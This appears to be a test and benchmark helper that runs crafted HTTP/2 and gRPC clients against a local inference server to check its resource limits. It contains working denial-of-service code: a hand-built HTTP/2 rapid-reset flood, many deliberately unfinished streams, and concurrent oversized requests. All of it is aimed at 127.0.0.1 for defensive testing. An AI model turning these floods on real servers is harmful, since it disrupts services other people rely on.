"""Crafted HTTP/2 and HTTP clients against a running inferd, for
tests/adversarial_test.py and for measuring (bench/README.md, "Resource
bounds"). Raw frames come from PyPI's h2 (pinned in requirements.txt).

Command line (measurements; the server must already run):
  grpc_attacks.py rss PID
  grpc_attacks.py unfinished PORT CONNECTIONS STREAMS_PER_CONNECTION BYTES
  grpc_attacks.py large PORT COUNT MEGABYTES
  grpc_attacks.py reset PORT SECONDS
  grpc_attacks.py latency PORT SECONDS
"""
import os
import re
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
import numpy as np
import tritonclient.grpc as grpcclient
import tritonclient.grpc.service_pb2 as pb

INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"
ROWS = np.array([[5.1, 3.5, 1.4, 0.2]], dtype=np.float32)


def memory(pid):
    """(VmRSS, VmHWM) of `pid` in bytes."""
    text = open(f"/proc/{pid}/status").read()
    rss = int(re.search(r"VmRSS:\s+(\d+) kB", text).group(1)) * 1024
    hwm = int(re.search(r"VmHWM:\s+(\d+) kB", text).group(1)) * 1024
    return rss, hwm


def grpc_headers(port):
    return [(":method", "POST"), (":scheme", "http"),
            (":path", INFER_PATH), (":authority", f"127.0.0.1:{port}"),
            ("content-type", "application/grpc"), ("te", "trailers")]


class RawConnection:
    """One HTTP/2 connection driven frame by frame; not thread-safe."""

    def __init__(self, port, source="127.0.0.1"):
        """Connects to 127.0.0.1:`port` from the loopback address
        `source` (any of 127.0.0.0/8)."""
        self.port = port
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10,
                                             source_address=(source, 0))
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True,
                                      header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.flush()
        self.read_some()  # the server's SETTINGS

    def flush(self):
        """Sends what h2 has queued; False when the server stopped reading
        (2 s without room in the socket) or closed."""
        data = self.conn.data_to_send()
        if not data:
            return True
        self.sock.settimeout(2)
        try:
            self.sock.sendall(data)
        except OSError:  # socket.timeout included
            return False
        return True

    def read_some(self, timeout=2.0):
        """Reads what arrives within `timeout`; returns the h2 events."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 20)
        except (socket.timeout, BlockingIOError):
            return []
        except OSError:
            return [h2.events.ConnectionTerminated()]
        finally:
            self.sock.settimeout(10)
        if not data:
            return [h2.events.ConnectionTerminated()]
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return [h2.events.ConnectionTerminated()]
        self.flush()
        return events

    def max_streams(self):
        return self.conn.remote_settings.max_concurrent_streams

    def open_unfinished(self, count, body_bytes):
        """Opens up to `count` calls (the server's stream limit caps them),
        each with a gRPC message header announcing more than `body_bytes`
        and only `body_bytes` of it: never finished."""
        opened = 0
        prefix = struct.pack(">BI", 0, body_bytes * 2 + 1024)
        for _ in range(min(count, self.max_streams())):
            try:
                sid = self.conn.get_next_available_stream_id()
                self.conn.send_headers(sid, grpc_headers(self.port))
                if self.conn.local_flow_control_window(sid) < body_bytes + 5:
                    if not self.flush():
                        break
                    self.read_some(0.2)  # the server's WINDOW_UPDATEs
                window = self.conn.local_flow_control_window(sid)
                size = max(0, min(body_bytes + 5, window,
                                  self.conn.max_outbound_frame_size))
                if size > 0:
                    self.conn.send_data(sid, (prefix + b"\0" * body_bytes)[:size])
            except (h2.exceptions.TooManyStreamsError,
                    h2.exceptions.FlowControlError,
                    h2.exceptions.ProtocolError):
                break
            opened += 1
            if opened % 64 == 0:
                if not self.flush():
                    break
                self.read_some(0)
        self.flush()
        return opened

    def rapid_reset(self, count):
        """HEADERS then RST_STREAM(CANCEL), `count` times, written as bytes
        (h2 per stream is slower than the server). Returns False once the
        server has closed the connection. The connection's h2 state is not
        kept: use the connection for nothing else afterwards."""
        if not hasattr(self, "_block"):
            # Literals and static-table references only: the same block is
            # valid whatever the server's HPACK table holds.
            self._block = hpack.Encoder().encode(grpc_headers(self.port))
            self._sid = self.conn.get_next_available_stream_id()
            self.sock.setblocking(False)
        frames = []
        for _ in range(count):
            sid, self._sid = self._sid, self._sid + 2
            # Frame header: length (24 bits) and type, flags, stream id.
            frames.append(struct.pack(">IBI", len(self._block) << 8 | 1, 4,
                                      sid) + self._block)  # END_HEADERS
            frames.append(struct.pack(">IBII", 4 << 8 | 3, 0, sid, 8))
        data = memoryview(b"".join(frames))
        while data:
            try:
                sent = self.sock.send(data)
                data = data[sent:]
            except BlockingIOError:
                self.drain()
                time.sleep(0.001)
            except OSError:
                return False
        return self.drain()

    def drain(self):
        """Reads and drops what the server sent; False once it closed."""
        while True:
            try:
                if not self.sock.recv(1 << 20):
                    return False
            except BlockingIOError:
                return True
            except OSError:
                return False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def large_request(rows):
    """A ModelInfer for iris of `rows` rows (16 bytes each), more than its
    max_batch_size allows: the server reads all of it, then refuses it."""
    request = pb.ModelInferRequest(model_name="iris")
    tensor = request.inputs.add(name="features", datatype="FP32")
    tensor.shape.extend([rows, 4])
    request.raw_input_contents.append(b"\0" * (rows * 16))
    return request


def send_large(port, count, megabytes, timeout=60):
    """`count` concurrent large requests, one connection each. Returns
    the gRPC status codes (names) they got, with one message per code."""
    import grpc
    request = large_request(megabytes * (1 << 20) // 16)
    results = []
    lock = threading.Lock()

    def one():
        channel = grpc.insecure_channel(
            f"127.0.0.1:{port}",
            options=[("grpc.max_send_message_length", -1),
                     ("grpc.use_local_subchannel_pool", 1)])
        call = channel.unary_unary(
            INFER_PATH, request_serializer=pb.ModelInferRequest.SerializeToString,
            response_deserializer=pb.ModelInferResponse.FromString)
        try:
            call(request, timeout=timeout)
            outcome = ("OK", "")
        except grpc.RpcError as e:
            outcome = (e.code().name, e.details())
        channel.close()
        with lock:
            results.append(outcome)

    threads = [threading.Thread(target=one) for _ in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return results


def infer_ok(client):
    inputs = [grpcclient.InferInput("features", [1, 4], "FP32")]
    inputs[0].set_data_from_numpy(ROWS)
    out = client.infer("iris", inputs, client_timeout=20)
    return out.as_numpy("probabilities").shape == (1, 3)


def latencies(port, seconds):
    """Sequential iris calls for `seconds`: their latencies in seconds."""
    client = grpcclient.InferenceServerClient(
        f"127.0.0.1:{port}",
        channel_args=[("grpc.use_local_subchannel_pool", 1)])
    infer_ok(client)
    times = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        start = time.monotonic()
        assert infer_ok(client)
        times.append(time.monotonic() - start)
    client.close()
    return times


def main(argv):
    what = argv[1]
    if what == "rss":
        rss, hwm = memory(int(argv[2]))
        print(f"VmRSS {rss / 2**20:.0f} MiB, VmHWM {hwm / 2**20:.0f} MiB")
    elif what == "unfinished":
        port, conns, per, size = map(int, argv[2:6])
        held = [RawConnection(port) for _ in range(conns)]
        opened = sum(c.open_unfinished(per, size) for c in held)
        print(f"{opened} unfinished streams on {conns} connections; "
              "holding them 10 s")
        for _ in range(5):
            time.sleep(2)
            alive = sum(not any(isinstance(e, h2.events.ConnectionTerminated)
                                for e in c.read_some(0)) for c in held)
            if os.environ.get("INFERD_PID"):
                rss, hwm = memory(int(os.environ["INFERD_PID"]))
                print(f"  held: VmRSS {rss / 2**20:.0f} MiB, VmHWM "
                      f"{hwm / 2**20:.0f} MiB, {alive} connections open")
        for c in held:
            c.close()
    elif what == "large":
        port, count, mb = map(int, argv[2:5])
        results = send_large(port, count, mb)
        for code in sorted(set(r[0] for r in results)):
            detail = next(r[1] for r in results if r[0] == code)
            print(f"{sum(r[0] == code for r in results)} x {code}: {detail}")
    elif what == "reset":
        port, seconds = int(argv[2]), float(argv[3])
        conn = RawConnection(port)
        sent, end = 0, time.monotonic() + seconds
        while time.monotonic() < end and conn.rapid_reset(100):
            sent += 100
        print(f"{sent} HEADERS+RST_STREAM in {seconds} s "
              f"({sent / seconds:.0f}/s)")
    elif what == "latency":
        port, seconds = int(argv[2]), float(argv[3])
        times = sorted(latencies(port, seconds))
        print(f"{len(times)} calls: p50 {times[len(times) // 2] * 1e3:.1f} ms,"
              f" p99 {times[int(len(times) * 0.99)] * 1e3:.1f} ms")
    else:
        print(__doc__)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
